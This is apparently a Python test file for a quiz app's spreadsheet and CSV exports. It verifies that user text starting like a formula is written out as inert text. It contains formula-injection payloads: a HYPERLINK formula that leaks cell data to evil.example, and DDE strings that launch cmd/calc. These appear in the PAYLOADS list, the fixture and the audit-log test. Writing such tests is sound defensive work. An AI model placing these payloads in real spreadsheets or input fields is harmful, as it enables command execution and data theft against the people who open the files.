"""Every spreadsheet the product writes is inert: text a user typed (names, departments,
round titles, stems, options, tags, audit-log details) that starts like a formula
(= + - @, or a tab/CR that Excel strips before one) is written as text, never as a formula.

Each .xlsx and .csv export is downloaded through the web app and every cell is read back.
"""
import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.permissions import actor_of, system_actor
from core.actor import Actor
from core.spreadsheet import FORMULA_STARTS, cell_text
from accounts.user_admin import NewUser
from tests.support.questions import SINGLE_DATA
from webapp.extensions import services

PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=1+1")


def test_one_escaping_function_quotes_every_formula_start():
    for payload in PAYLOADS:
        assert cell_text(payload).startswith("'"), payload
    assert cell_text("普通文字") == "普通文字" and cell_text(12) == 12 and cell_text(None) is None
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)


def dangerous(value) -> bool:
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


def assert_workbook_inert(data: bytes, expected: set[str]):
    """No formula cell, no text that a spreadsheet would run; the payloads are all there."""
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not dangerous(cell.value), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    missing = {p for p in expected if not any(p.strip() in value for value in seen)}
    assert not missing, missing


@pytest.fixture
def hostile_round(loaded_app, quiz, accounts, make_question, make_round):
    """A closed round titled with a formula, taken by people whose names and department
    are formulas, on a question whose stem, options and tags are formulas."""
    kb = services(loaded_app)
    kb.departments.create(system_actor(), "=1+1科")
    takers = [kb.users.create_user(system_actor(), NewUser(
        f"evil{i}", payload[:20], "staff", "=1+1科", "Very-long-pass-9x", False)).user.id
        for i, payload in enumerate(PAYLOADS[:4])]
    question = make_question("single", stem="=HYPERLINK(\"http://evil.example\")题干",
                             options=["+1+cmd|' /C calc'!A0", "@SUM(1)", "-1", "=2"],
                             tags=["=标签"], explanation="-解析")
    round_id = make_round([question], title="@SUM(1+1)练兵")
    for taker in [actor_of(kb.users.get_user(uid)) for uid in takers] + [actor_of(accounts["staff"])]:
        view = quiz.attempts.start(taker, round_id)
        quiz.attempts.save_answer(taker, view.attempt_id, question, view.questions[0].options[0].id)
        quiz.attempts.submit(taker, view.attempt_id)
    quiz.lifecycle.close_round(actor_of(accounts["trainer"]), round_id)
    return round_id, takers


def test_round_results_workbook_is_inert(browsers, hostile_round):
    round_id, _ = hostile_round
    response = browsers["trainer"].get(f"/rounds/{round_id}/results.xlsx")
    assert response.status_code == 200
    assert_workbook_inert(response.data, {"@SUM(1+1)练兵", "=1+1科", "=HYPERLINK"})


def test_person_records_are_inert(browsers, hostile_round, accounts):
    _, takers = hostile_round
    mine = browsers["staff"].get("/training/results.xlsx")
    assert_workbook_inert(mine.data, {"@SUM(1+1)练兵", "=HYPERLINK"})
    theirs = browsers["trainer"].get(f"/training/people/{takers[0]}/record.xlsx")
    assert theirs.status_code == 200
    assert_workbook_inert(theirs.data, {"@SUM(1+1)练兵"})


def test_bank_export_is_inert_and_reads_back_as_typed(browsers, hostile_round, quiz, accounts):
    response = browsers["trainer"].get("/bank/export.xlsx")
    assert_workbook_inert(response.data, {"=HYPERLINK", "+1+cmd", "@SUM(1)", "=标签", "-解析"})
    # The escaped sheet imports back to the same text (the quote is the spreadsheet's own
    # "this is text" mark): re-importing the export adds nothing.
    report = quiz.question_transfer.import_excel(actor_of(accounts["trainer"]), response.data, "题库.xlsx")
    assert not report.imported and not report.errors, report


def test_audit_log_csv_is_inert(browsers, loaded_app):
    services(loaded_app).security_log.record(Actor(None, username="=cmd|' /C calc'!A0"), "logout",
                                                "\t=1+1", "@SUM(1)")
    text = browsers["admin"].get("/admin/audit/export.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells


def test_the_template_and_sample_data_are_untouched(browsers):
    book = load_workbook(io.BytesIO(browsers["trainer"].get("/bank/template.xlsx").data))
    assert [c.value for c in book.worksheets[0][1]][:2] == ["题型", "题干"]
    assert SINGLE_DATA["stem"] == cell_text(SINGLE_DATA["stem"])
